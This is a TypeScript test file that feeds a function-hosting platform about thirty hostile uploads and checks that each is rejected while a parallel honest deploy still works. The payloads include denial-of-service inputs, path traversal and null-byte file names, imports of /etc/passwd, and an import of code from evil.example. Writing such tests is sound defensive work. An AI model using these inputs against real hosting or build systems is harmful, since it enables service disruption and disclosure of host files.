// Thirty harmful deploys. Each must get a 4xx or be harmless, the host must stay up, and a deploy of another user must
// succeed meanwhile.
import type { TestApp } from './app.ts'

const nested = (open: string, close: string, depth: number, core = '1') =>
  `export default ${open.repeat(depth)}${core}${close.repeat(depth)}`
const files = (count: number) =>
  Object.fromEntries([['index.ts', 'export default 1'], ...Array.from({ length: count }, (_, i) => [`f${i}.txt`, ''])])
const chain = (count: number, last: string) =>
  Object.fromEntries(
    Array.from({ length: count }, (_, i) => [
      i === 0 ? 'index.ts' : `m${i}.ts`,
      `import './${i === count - 1 ? last : `m${i + 1}`}.ts'; export default () => new Response()`,
    ]),
  )
const index = (source: string) => ({ 'index.ts': source })
const handler = 'export default () => new Response()'
const mappings = (bytes: number) =>
  Buffer.from(JSON.stringify({ version: 3, sources: ['a'], names: [], mappings: 'AAAA,'.repeat(bytes / 5) }))

interface HostileDeploy {
  readonly files: Record<string, unknown>
  readonly policy?: unknown
  /** Accepted statuses; 201 only where nothing is wrong with the code. */
  readonly met: readonly number[]
}

/** Each is built only when it is used: together they would exceed the test's own memory. */
export const HOSTILE_DEPLOYS: Readonly<Record<string, () => HostileDeploy>> = {
  'a million brackets': () => ({ files: index(nested('[', ']', 1_000_000)), met: [422] }),
  'parentheses, 200,000 deep': () => ({ files: index(nested('(', ')', 200_000)), met: [422] }),
  'objects, 200,000 deep': () => ({
    files: index(nested('{a:', '}', 200_000).replace('default ', 'default (') + ')'),
    met: [422],
  }),
  'arrow functions, 200,000 deep': () => ({ files: index(nested('()=>', '', 200_000)), met: [422] }),
  'template literals, 100,000 deep': () => ({ files: index(nested('`${', '}`', 100_000)), met: [422] }),
  'JSX, 100,000 deep': () => ({ files: { 'index.tsx': nested('<a>', '</a>', 100_000, '') }, met: [422] }),
  'conditionals, 200,000 deep': () => ({ files: index(`export default ${'1?'.repeat(200_000)}`), met: [422] }),
  'type arguments, 200,000 deep': () => ({ files: index(`let x: ${'A<'.repeat(200_000)}`), met: [422] }),
  'not, 500,000 times': () => ({ files: index(`export default ${'!'.repeat(500_000)}1`), met: [422] }),
  'nine million elements': () => ({ files: index(`export default [${'1,'.repeat(9_000_000)}]`), met: [422] }),
  'a regular expression of 10 MB': () => ({ files: index(`/${'(a'.repeat(5_000_000)}/; ${handler}`), met: [201, 422] }),
  'a string of 21 MB': () => ({ files: index(`export default "${'x'.repeat(21_000_000)}"`), met: [422] }),
  'a source map of 20 MB': () => ({
    files: index(
      `${handler}\n//# sourceMappingURL=data:application/json;base64,${mappings(15_000_000).toString('base64')}`,
    ),
    met: [201, 422],
  }),
  'a source map beside it, of 20 MB': () => ({
    files: {
      'index.mjs': `${handler}\n//# sourceMappingURL=index.mjs.map`,
      'index.mjs.map': mappings(20_000_000).toString(),
    },
    met: [201, 422],
  }),
  'one file too many': () => ({ files: files(2000), met: [422] }),
  'a hundred thousand files': () => ({ files: files(100_000), met: [413] }),
  'a path that leaves the folder': () => ({
    files: { ...index(handler), '../../x': 'x' },
    policy: { static: ['../..'] },
    met: [422],
  }),
  'an absolute path': () => ({ files: { ...index(handler), '/etc/x': 'x' }, policy: { static: ['/etc'] }, met: [422] }),
  'a path that leaves the folder further down': () => ({
    files: { ...index(handler), 'a/../../x': 'x' },
    policy: { static: ['a/**'] },
    met: [422],
  }),
  'a path with a zero byte': () => ({
    files: { ...index(handler), 'a/\0x': 'x' },
    policy: { static: ['a'] },
    met: [422],
  }),
  'a file in the place of the bundle': () => ({
    files: { ...index(handler), 'index.mjs': 'x' },
    policy: { static: ['index.mjs'] },
    met: [422],
  }),
  'a hundred thousand patterns': () => ({
    files: files(1000),
    policy: { static: Array.from({ length: 100_000 }, (_, i) => `f${i % 1000}.txt`) },
    met: [422],
  }),
  'a policy 1,000 deep': () => ({
    files: index(handler),
    policy: JSON.parse(`${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}`) as unknown,
    met: [400, 422],
  }),
  'a policy of 100,000 unknown fields': () => ({
    files: index(handler),
    policy: Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`f${i}`, i])),
    met: [413],
  }),
  'modules that import each other in a ring of 1,500': () => ({ files: chain(1500, 'index'), met: [201] }),
  'a module that imports itself': () => ({ files: index(`import './index.ts'; ${handler}`), met: [201] }),
  'a chain of 1,500 that ends nowhere': () => ({ files: chain(1500, 'nowhere'), met: [422] }),
  'a file of the host': () => ({ files: index(`import '/etc/passwd'; ${handler}`), met: [422] }),
  'a file of the host by URL': () => ({ files: index(`import 'file:///etc/passwd'; ${handler}`), met: [422] }),
  'code from the network': () => ({ files: index(`import 'https://evil.example/x.ts'; ${handler}`), met: [422] }),
  'a native add-on': () => ({ files: { ...index(`import './x.node'; ${handler}`), 'x.node': 'x' }, met: [422] }),
  'a plugin that the bundler is asked to load': () => ({
    files: {
      ...index(`import './x.json'; ${handler}`),
      'tsconfig.json': '{"extends":"/etc/passwd"}',
      'x.json': '{'.repeat(100_000),
    },
    met: [422],
  }),
}

/** The two deployers: a hostile project, and an honest one beside it. */
export interface Deployers {
  hostile(body: object): Promise<{ readonly status: number; readonly body: unknown }>
  honest(source: string): Promise<{ readonly status: number }>
  /** Calls the honest function and returns its answer. */
  call(): Promise<string>
}

export interface Outcome {
  /** The problem that was found; null when there is none. */
  readonly wrong: string | null
  readonly status: number
  /** From the request to the answer, in milliseconds. */
  readonly hostileMs: number
  readonly honestMs: number
}

/** One app and one project, which deploys both. */
export const inOneProject = (app: TestApp): Deployers => ({
  hostile: (body) => app.control('PUT', '/functions/hostile', body),
  honest: (source) => app.deploy('honest', source),
  call: async () => (await fetch(app.url('honest'))).text(),
})

/** Deploys a hostile upload, and an honest one meanwhile. */
export async function deployHostile(by: Deployers, name: string): Promise<Outcome> {
  const { files: sent, policy = {}, met } = HOSTILE_DEPLOYS[name]!()
  const body = { files: sent, policy }
  const begun = performance.now()
  const timed = <T>(work: Promise<T>) => work.then((done) => ({ done, ms: performance.now() - begun }))
  const hostile = timed(by.hostile(body))
  const honest = timed(by.honest(`export default () => new Response(${JSON.stringify(name)})`))
  const [{ done: answer, ms: hostileMs }, { done: deployed, ms: honestMs }] = await Promise.all([hostile, honest])
  const said = await by.call()
  const wrong = !met.includes(answer.status)
    ? `met ${answer.status} ${JSON.stringify(answer.body).slice(0, 500)}`
    : deployed.status !== 201
      ? `the honest deploy met ${deployed.status}`
      : said === name
        ? null
        : `the honest function answers ${said}`
  return { wrong, status: answer.status, hostileMs, honestMs }
}
